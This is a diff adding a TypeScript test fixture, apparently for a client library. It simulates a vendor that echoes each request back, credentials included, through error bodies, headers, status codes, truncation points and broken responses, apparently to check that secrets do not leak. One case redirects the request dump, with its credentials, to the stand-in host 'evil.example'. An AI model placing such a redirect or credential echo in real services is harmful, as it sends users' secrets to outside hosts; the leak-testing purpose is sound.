@@ -1,0 +1,167 @@
+import { gzipSync } from 'node:zlib';
+import { type Transport } from '../../src/index.ts';
+import { transportFromFetch } from '../../src/egress/index.ts';
+import { encoders, type Encoding } from './canaries.ts';
+
+/** One way in which a vendor gives back what it was sent. */
+export interface Echo {
+  name: string;
+  answer(dump: string, request: Request): Promise<Response> | Response;
+}
+
+const json = { 'content-type': 'application/json' };
+
+/** A refusal in the dialects of all vendors at once, so that whatever is read as the message holds the echo. */
+function refusal(text: string): string {
+  return JSON.stringify({
+    message: text,
+    msg: text,
+    code: text,
+    error: { message: text },
+    errors: [{ message: text, [text]: [text], data: { msBeforeNext: 1500 } }],
+  });
+}
+
+const encodings: readonly Encoding[] = [
+  'plain',
+  'json',
+  'percent',
+  'percent in lower case',
+  'percent twice',
+  'form',
+  'html',
+  'base64',
+  'base64url',
+  'hex',
+];
+
+const statuses = [400, 401, 403, 404, 409, 422, 429, 500, 503];
+
+const inBodies = encodings.flatMap((encoding): Echo[] => [
+  {
+    name: `in JSON, ${encoding}`,
+    answer: (dump) => new Response(refusal(encoders[encoding](dump)), { status: 400, headers: json }),
+  },
+  {
+    name: `in HTML, ${encoding}`,
+    answer: (dump) =>
+      new Response(`<!doctype html><pre>${encoders[encoding](dump)}</pre>`, {
+        status: 502,
+        headers: { 'content-type': 'text/html' },
+      }),
+  },
+]);
+
+const inStatuses = statuses.map((status): Echo => ({
+  name: `with status ${status}`,
+  answer: (dump) => new Response(refusal(dump), { status, headers: json }),
+}));
+
+/** Puts the dump where texts are cut, so that half a credential might be left. */
+const atEdges = [280, 290, 300, 1980, 1990, 2000].map((position): Echo => ({
+  name: `at position ${position} of a text`,
+  answer: (dump) =>
+    new Response('x'.repeat(Math.max(0, position - dump.indexOf('CANARY') - 15)) + dump, {
+      status: 400,
+      headers: { 'content-type': 'text/plain' },
+    }),
+}));
+
+const others: Echo[] = [
+  {
+    name: 'in header fields',
+    answer(dump, request) {
+      const authorization = request.headers.get('authorization') ?? request.headers.get('api-key') ?? '';
+      const headers = {
+        ...json,
+        'x-echo': authorization,
+        'x-echo-percent': encodeURIComponent(dump),
+        'www-authenticate': `Bearer error="${encodeURIComponent(authorization)}"`,
+        'x-ratelimit-limit': encodeURIComponent(authorization),
+        'x-ratelimit-remaining': encodeURIComponent(authorization),
+        'retry-after': encodeURIComponent(authorization),
+        location: `https://login.example/?token=${encodeURIComponent(authorization)}`,
+        link: `</next?key=${encodeURIComponent(authorization)}>; rel="next"`,
+      };
+      return new Response(refusal('no'), { status: 429, headers });
+    },
+  },
+  {
+    name: 'in a redirect',
+    answer: (dump) =>
+      new Response(null, { status: 302, headers: { location: `https://evil.example/?${encodeURIComponent(dump)}` } }),
+  },
+  {
+    name: 'in header fields of a success',
+    answer: (dump) => new Response('[]', { headers: { ...json, 'x-echo': encodeURIComponent(dump) } }),
+  },
+  {
+    name: 'in JSON that is none',
+    answer: (dump) => new Response(`{"cut": "${dump}`, { headers: json }),
+  },
+  {
+    name: 'in a failure in JSON that is none',
+    answer: (dump) => new Response(`{"cut": "${dump}`, { status: 400, headers: json }),
+  },
+  {
+    name: 'in a compressed failure',
+    answer: (dump) =>
+      new Response(gzipSync(refusal(dump)), { status: 400, headers: { ...json, 'content-encoding': 'gzip' } }),
+  },
+  {
+    name: 'in the error of a broken connection',
+    answer: (dump) => Promise.reject(new Error(`write failed: ${dump}`, { cause: new Error(dump) })),
+  },
+  {
+    name: 'in the error of a broken answer',
+    answer: (dump) =>
+      new Response(
+        new ReadableStream({
+          pull: (controller) => controller.error(new Error(`read failed: ${dump}`)),
+        }),
+        { status: 400, headers: json },
+      ),
+  },
+  {
+    name: 'in keys and digits of JSON',
+    answer: (dump) => new Response(JSON.stringify({ [dump]: { [dump]: [dump] } }), { status: 422, headers: json }),
+  },
+  { name: 'never: it does not answer', answer: () => new Promise<Response>(() => {}) },
+];
+
+/** Every way of giving back a request. */
+export const echoes: readonly Echo[] = [...inBodies, ...inStatuses, ...atEdges, ...others];
+
+export interface EchoingVendor {
+  transport: Transport;
+  /** What the vendor received, whole, as text. */
+  received: string[];
+  /** Every address that was called. */
+  urls: string[];
+  echo(echo: Echo): void;
+}
+
+/** A vendor that answers every request by giving it back, credentials included. */
+export function createEchoingVendor(): EchoingVendor {
+  let current: Echo | undefined;
+  const received: string[] = [];
+  const urls: string[] = [];
+  return {
+    received,
+    urls,
+    echo(echo) {
+      current = echo;
+    },
+    transport: transportFromFetch(async (request) => {
+      const fields = [...request.headers].map(([name, value]) => {
+        const user = /^Basic (.+)$/.exec(value)?.[1];
+        return `${name}: ${value}${user === undefined ? '' : ` (${Buffer.from(user, 'base64').toString()})`}`;
+      });
+      const dump = [`${request.method} ${request.url}`, ...fields, await request.text()].join(' | ');
+      received.push(dump);
+      urls.push(request.url);
+      if (current === undefined) throw new Error('the test set no echo');
+      return current.answer(dump, request);
+    }),
+  };
+}
